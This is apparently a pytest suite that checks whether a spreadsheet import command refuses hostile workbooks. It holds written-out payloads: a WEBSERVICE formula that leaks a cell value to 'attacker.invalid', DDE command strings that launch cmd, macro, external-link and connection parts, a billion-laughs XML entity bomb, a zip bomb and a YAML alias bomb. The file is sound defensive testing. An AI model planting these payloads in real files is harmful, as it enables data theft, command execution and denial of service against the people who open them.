"""Hostile workbooks given to ``tco import``: formulas with cached values, macro, external-link and
connection parts, XML entity tricks, zip bombs, a million rows, extra sheets, a bomb in the
hidden Scenario sheet. Each is built from a real ``tco export`` by editing its zip package."""

from __future__ import annotations

import re
import zipfile
import zlib
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import pytest
from harness import contained, refused
from harness import tco as run_tco
from test_yaml import ALIAS_BOMB

import tco
from tco.export import write_workbook
from tco.export.inputs_sheet import FIRST_ROW
from tco.export.reader import MAX_UNCOMPRESSED_BYTES

INPUTS, SCENARIO = "xl/worksheets/sheet3.xml", "xl/worksheets/sheet10.xml"  # after Summary, Cover; the last


@pytest.fixture(scope="module")
def book(tmp_path_factory) -> Path:
    """The default scenario's workbook, as `tco export` writes it."""
    path = tmp_path_factory.mktemp("book") / "book.xlsx"
    write_workbook(tco.load_scenario("default"), path)
    with zipfile.ZipFile(path) as package:  # the sheets are where this suite edits them
        assert b"<t>economics.discount_rate</t>" in package.read(INPUTS)
        assert b"<t>name: default</t>" in package.read(SCENARIO)
    return path


def repackaged(book: Path, out: Path, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None,
               content_types: bytes | None = None) -> Path:
    """A copy of ``book`` with parts replaced or added (deflated)."""
    replace, add = dict(replace or {}), dict(add or {})
    with zipfile.ZipFile(book) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = replace.pop(info.filename, None) or src.read(info.filename)
            if info.filename == "[Content_Types].xml" and content_types:
                data = content_types
            dst.writestr(info.filename, data)
        for name, data in add.items():
            dst.writestr(name, data)
    return out


def row_of(name: str) -> int:
    return FIRST_ROW + list(tco.load_scenario("default").params).index(name)


def with_cell(book: Path, out: Path, cell: str, xml: str, part: str = INPUTS) -> Path:
    """``book`` with the XML element of ``cell`` on ``part`` replaced by ``xml``."""
    with zipfile.ZipFile(book) as src:
        sheet = src.read(part).decode()
    edited, count = re.subn(rf'<c r="{cell}"[^>]*>.*?</c>', xml, sheet, count=1)
    assert count == 1
    return repackaged(book, out, replace={part: edited.encode()})


def test_the_untouched_workbook_imports(book, tmp_path):
    outcome = contained(run_tco("import", str(book), "--out", str(tmp_path / "s.yaml")))
    assert outcome.code == 0, outcome.stderr
    assert tco.load_scenario(tmp_path / "s.yaml").values() == tco.load_scenario("default").values()


@pytest.mark.parametrize("formula", [
    'WEBSERVICE("http://attacker.invalid/?leak="&amp;A1)',
    'INDIRECT("Model!A1")',
    'HYPERLINK("http://attacker.invalid","click")',
    "cmd|' /C calc'!A0",  # DDE
])
def test_a_formula_in_an_input_cell_is_refused_not_its_cached_value(book, tmp_path, formula):
    """The cached value (0.09) equals the scenario's: a reader trusting cached values would accept it silently."""
    cell = f"B{row_of('economics.discount_rate')}"
    path = with_cell(book, tmp_path / "f.xlsx", cell, f'<c r="{cell}"><f>{formula}</f><v>0.09</v></c>')
    refused(run_tco("import", str(path)), f"Inputs!{cell}", "is a formula")


def test_a_formula_in_a_name_cell_or_the_scenario_sheet_is_refused(book, tmp_path):
    cell = f"A{row_of('economics.pue')}"
    formula = f'<c r="{cell}" t="str"><f>"economics."&amp;"pue"</f><v>economics.pue</v></c>'
    path = with_cell(book, tmp_path / "a.xlsx", cell, formula)
    refused(run_tco("import", str(path)), f"Inputs!{cell}", "is a formula")
    path = with_cell(book, tmp_path / "s.xlsx", "A1", '<c r="A1" t="str"><f>"name: "&amp;"x"</f><v>name: x</v></c>', SCENARIO)
    refused(run_tco("import", str(path)), "Scenario!A1", "is a formula")


@pytest.mark.parametrize(("part", "data", "fragment"), [
    ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 512, "macros"),
    ("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>", "macros"),
    ("xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
     "external links"),
    ("xl/connections.xml", b'<connections><connection id="1"><webPr url="http://attacker.invalid"/></connection></connections>',
     "data connections"),
    ("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0", "embeds"),
])
def test_parts_that_run_code_or_fetch_data_are_refused(book, tmp_path, part, data, fragment):
    refused(run_tco("import", str(repackaged(book, tmp_path / "p.xlsx", add={part: data}))), fragment)


def test_a_macro_enabled_content_type_is_refused(book, tmp_path):
    with zipfile.ZipFile(book) as src:
        types = src.read("[Content_Types].xml").replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
    refused(run_tco("import", str(repackaged(book, tmp_path / "m.xlsx", content_types=types))), "macro-enabled")


def test_xml_entity_expansion_is_refused_before_parsing(book, tmp_path):
    laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
              + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
              + ']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
              "<si><t>&lol9;</t></si></sst>")
    path = repackaged(book, tmp_path / "e.xlsx", add={"xl/sharedStrings.xml": laughs.encode()})
    refused(run_tco("import", str(path)), "document type")


def test_a_zip_bomb_is_refused_without_inflating_it(book, tmp_path):
    """~100 kB more on disk than the workbook, 100 MB of XML once inflated: refused from the declared sizes."""
    size = MAX_UNCOMPRESSED_BYTES * 2
    path = repackaged(book, tmp_path / "z.xlsx", add={"xl/worksheets/sheet99.xml": b" " * size})
    assert path.stat().st_size - book.stat().st_size < 1_000_000 and zlib.compress(b" " * 1000)  # small on disk
    refused(run_tco("import", str(path)), "zip bomb")


def _rows_sheet(rows: int, dimension: bool) -> bytes:
    head = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    if dimension:
        head += f'<dimension ref="A1:B{rows}"/>'
    body = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>x{r}</t></is></c><c r="B{r}"><v>1</v></c></row>'
                   for r in range(1, rows + 1))
    return (head + "<sheetData>" + body + "</sheetData></worksheet>").encode()


@pytest.mark.parametrize(("dimension", "fragment"), [(True, "has more rows than the scenario's"),
                                                     (False, "without a dimension record")])
def test_a_sheet_of_200000_rows_is_refused_before_its_rows_are_read(book, tmp_path, dimension, fragment):
    """Declared, the row count is refused; undeclared (openpyxl would parse every row to count them), the
    sheet is refused. Either way no row is parsed."""
    path = repackaged(book, tmp_path / "r.xlsx", replace={INPUTS: _rows_sheet(200_000, dimension)})
    refused(run_tco("import", str(path)), fragment)


def test_a_dimension_that_lies_stops_the_reading_after_the_parameters(book, tmp_path):
    """A sheet declaring 80 rows but holding 200,000: reading stops after the scenario's rows plus a margin,
    and each unknown name is reported, the list capped."""
    sheet = _rows_sheet(200_000, True).replace(b'<dimension ref="A1:B200000"/>', b'<dimension ref="A1:B80"/>')
    outcome = refused(run_tco("import", str(repackaged(book, tmp_path / "l.xlsx", replace={INPUTS: sheet}))),
                      "is not a parameter", "more")
    assert len(outcome.stderr.splitlines()) == 21


@pytest.mark.slow
def test_an_extra_sheet_is_refused(book, tmp_path):
    wb = openpyxl.load_workbook(book)
    wb.create_sheet("Notes")["A1"] = "=WEBSERVICE(\"http://attacker.invalid\")"
    wb.save(tmp_path / "n.xlsx")
    refused(run_tco("import", str(tmp_path / "n.xlsx")), "sheets tco does not write (Notes)")


def test_an_alias_bomb_in_the_hidden_scenario_sheet(book, tmp_path):
    lines = "".join(f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>{escape(line)}</t></is></c></row>'
                    for i, line in enumerate(ALIAS_BOMB.splitlines(), start=1))
    sheet = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:A9"/>'
             f"<sheetData>{lines}</sheetData></worksheet>")
    path = repackaged(book, tmp_path / "b.xlsx", replace={SCENARIO: sheet.encode()})
    refused(run_tco("import", str(path)), "Scenario", "alias")


def test_what_is_not_a_workbook(tmp_path):
    (tmp_path / "noise.xlsx").write_bytes(bytes(range(256)) * 100)
    refused(run_tco("import", str(tmp_path / "noise.xlsx")), "not a zip package")
    refused(run_tco("import", str(tmp_path)), "is not a file")
    refused(run_tco("import", str(tmp_path / "missing.xlsx")), "is not a file")
